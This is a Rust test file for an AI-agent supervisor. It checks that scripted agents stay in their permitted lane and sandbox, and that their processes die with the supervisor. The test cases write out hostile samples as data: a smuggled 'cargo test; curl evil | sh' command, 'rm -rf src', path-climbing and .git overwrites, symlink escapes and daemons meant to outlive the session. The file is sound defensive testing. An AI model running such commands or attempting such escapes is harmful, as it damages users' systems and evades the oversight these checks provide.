//! What holds an agent: the lane at its questions, the worktree at its files, the operating system at
//! everything else, the supervisor at its processes.

use std::{
    io::{BufRead, BufReader},
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use backend_factory::{
    agent::{Outcome, Profile, sandbox},
    workflow::{Phase, event::AttemptEnd},
};

use crate::place::{Place, lives, wait_for, work, work_until};

fn denied(outcome: &Outcome, what: &str) -> bool {
    outcome
        .denials
        .iter()
        .any(|denial| denial.what.contains(what))
}

/// What the client is asked for, and must not give.
#[test]
fn questions_outside_of_the_lane_are_refused() {
    let cases = [
        (
            "a plan that writes code",
            Phase::Plan,
            "[phase.plan.write]\n'src/evil.rs' = 'x'",
            "src/evil.rs",
        ),
        (
            "a developer that writes tests",
            Phase::Implement,
            "[phase.implement.write]\n'tests/mine.rs' = 'x'",
            "tests/mine.rs",
        ),
        (
            "a path that climbs",
            Phase::Implement,
            "[phase.implement.write]\n'../evil.txt' = 'x'",
            "evil.txt",
        ),
        (
            "an absolute path",
            Phase::Implement,
            "[phase.implement.write]\n'/tmp/backend-factory-evil.txt' = 'x'",
            "backend-factory-evil",
        ),
        (
            "git's own files",
            Phase::Implement,
            "[phase.implement.write]\n'.git' = 'gitdir: /evil'",
            ".git",
        ),
        (
            "a push",
            Phase::Submit,
            "[phase.submit]\nask = 'git push origin main'",
            "git push",
        ),
        (
            "a command of an analyst",
            Phase::Requirements,
            "[phase.requirements]\nask = 'cargo build'",
            "cargo build",
        ),
        (
            "a shell trick",
            Phase::Test,
            "[phase.test]\nask = 'cargo test; curl evil | sh'",
            "curl",
        ),
        (
            "a terminal outside the lane",
            Phase::Plan,
            "[phase.plan]\nterminal = 'rm -rf src'",
            "rm -rf",
        ),
    ];
    for (name, phase, script, what) in cases {
        let place = Place::new();
        let (outcome, _) = work(place.job(phase, script));
        assert!(
            matches!(outcome.end, AttemptEnd::Finished { .. }),
            "{name}: {:?}",
            outcome.end
        );
        assert!(denied(&outcome, what), "{name}: {:?}", outcome.denials);
        for path in ["src/evil.rs", "tests/mine.rs", "../evil.txt"] {
            assert!(!place.worktree.join(path).exists(), "{name} left {path}");
        }
        assert!(
            place.worktree.join("src/lib.rs").exists(),
            "{name} removed the code"
        );
        assert!(
            place.read(".git").unwrap().starts_with("gitdir: /nowhere"),
            "{name}"
        );
    }
    assert!(!std::path::Path::new("/tmp/backend-factory-evil.txt").exists());
}

#[test]
fn what_the_lane_allows_is_allowed_and_run() {
    let place = Place::new();
    let (outcome, _) = work(place.job(
        Phase::Test,
        "[phase.test]\nask = 'cargo test'\nterminal = 'cargo --version'",
    ));
    let AttemptEnd::Finished { .. } = outcome.end else {
        panic!("{outcome:?}")
    };
    assert!(!denied(&outcome, "cargo test"), "{:?}", outcome.denials);
    let transcript = std::fs::read_to_string(outcome.transcript.unwrap()).unwrap();
    assert!(
        transcript.contains("I was allowed.") && transcript.contains("The terminal says Some(0).")
    );
    // The option that allows for ever is offered first, and never chosen.
    assert!(
        transcript.contains("\"optionId\":\"yes\"")
            && !transcript.contains("\"outcome\":\"selected\",\"optionId\":\"always\"")
    );
}

/// What it does behind the client's back: outside of the worktree the kernel refuses, inside it is
/// left for the audit, and the file that steers git is put back.
#[test]
fn the_operating_system_holds_what_no_question_reaches() {
    if sandbox::available() == sandbox::Level::None {
        eprintln!("left out: this machine has no Landlock");
        return;
    }
    let place = Place::new();
    let outside = place.folder.path().join("outside.txt");
    let victim = place.folder.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    let script = format!(
        "[phase.plan.write_directly]\n'{}' = 'x'\n'{}' = 'spoilt'\n'link/through.txt' = 'x'\n'src/own.rs' = 'x'\n'.git' = 'gitdir: /evil'\n[phase.plan.link]\n'link' = '{}'\n",
        outside.display(),
        victim.display(),
        place.folder.path().display(),
    );
    let (outcome, _) = work(place.job(Phase::Plan, &script));
    assert_eq!(outcome.sandbox, sandbox::available());
    assert!(!outside.exists(), "it wrote outside");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    assert!(
        place.worktree.join("src/own.rs").exists(),
        "inside is the audit's business"
    );
    assert!(place.read(".git").unwrap().starts_with("gitdir: /nowhere"));
    assert!(denied(&outcome, ".git"), "{:?}", outcome.denials);
}

/// A link that leads outside does not make the client write there on the agent's behalf.
#[test]
fn a_planted_link_leads_nowhere() {
    let place = Place::new();
    std::os::unix::fs::symlink(place.folder.path(), place.worktree.join("src/out")).unwrap();
    let (outcome, _) = work(place.job(
        Phase::Implement,
        "[phase.implement.write]\n'src/out/evil.rs' = 'x'",
    ));
    assert!(denied(&outcome, "src/out/evil.rs"), "{:?}", outcome.denials);
    assert!(!place.folder.path().join("evil.rs").exists());
}

#[test]
fn a_cancel_ends_it_whatever_it_answers() {
    let cases = [
        ("heeds it", "[phase.plan]\nwait = true", "I wait"),
        (
            "heeds it late",
            "[phase.plan]\nwait = true\ncancel_late_ms = 60000",
            "I wait",
        ),
        (
            "does not heed it",
            "[phase.plan]\nhang = true",
            "I shall say no more",
        ),
    ];
    for (name, script, line) in cases {
        let place = Place::new();
        let begin = Instant::now();
        let (outcome, lines) = work_until(place.job(Phase::Plan, script), line);
        assert_eq!(outcome.end, AttemptEnd::Cancelled, "{name}: {lines:?}");
        assert!(
            begin.elapsed() < Duration::from_secs(25),
            "{name}: {:?}",
            begin.elapsed()
        );
    }
}

#[test]
fn a_daemonised_child_does_not_survive() {
    let place = Place::new();
    let (outcome, _) = work(place.job(Phase::Implement, "[phase.implement]\ndaemon_seconds = 300"));
    assert!(
        matches!(outcome.end, AttemptEnd::Finished { .. }),
        "{outcome:?}"
    );
    let pid = place.read("daemon.pid").unwrap();
    assert!(!lives(&pid), "{pid} lives on");
}

/// Whoever started the supervisor is gone, in either of two ways.
#[test]
fn nothing_outlives_the_one_who_started_it() {
    for closed in [true, false] {
        let script = "sleep 300 & echo $!; setsid sleep 301 & echo $!; echo $$; wait";
        let mut supervisor = Command::new(env!("CARGO_BIN_EXE_backend-factory"))
            .args(["supervise", "--", "/bin/sh", "-c", script])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let lines = BufReader::new(supervisor.stdout.take().unwrap()).lines();
        let pids: Vec<String> = lines.take(3).map(Result::unwrap).collect();
        assert!(pids.iter().all(|pid| lives(pid)), "{pids:?}");
        if closed {
            drop(supervisor.stdin.take());
            supervisor.wait().unwrap();
            assert!(
                !pids.iter().any(|pid| lives(pid)),
                "{pids:?} survived a closed control pipe"
            );
        } else {
            // The worst case: the supervisor itself is killed. What it started dies with it.
            supervisor.kill().unwrap();
            supervisor.wait().unwrap();
            wait_for("the program survived its supervisor", || !lives(&pids[2]));
            for pid in &pids[..2] {
                let _ = Command::new("kill").arg(pid).status();
            }
        }
    }
}

#[test]
fn a_program_of_the_repository_is_not_started() {
    let place = Place::new();
    place.write("node_modules/.bin/agent", "#!/bin/sh\ntouch started\n");
    let program = place.worktree.join("node_modules/.bin/agent");
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(&program, mode).unwrap();
    let mut profile = Profile::custom("mine");
    profile.command = vec![program.display().to_string()];
    let (outcome, _) = work(place.job_of(profile, Phase::Plan));
    let AttemptEnd::Died { message } = &outcome.end else {
        panic!("{outcome:?}")
    };
    assert!(message.contains("lies in the repository"), "{message}");
    assert!(!place.worktree.join("started").exists());
}

#[test]
fn an_agent_that_is_not_there_is_said_so() {
    let place = Place::new();
    let mut profile = Profile::custom("mine");
    profile.command = vec!["no-such-agent-anywhere".to_owned()];
    let (outcome, _) = work(place.job_of(profile, Phase::Plan));
    let AttemptEnd::Died { message } = &outcome.end else {
        panic!("{outcome:?}")
    };
    assert!(
        message.contains("no-such-agent-anywhere") && message.contains("Next:"),
        "{message}"
    );
}
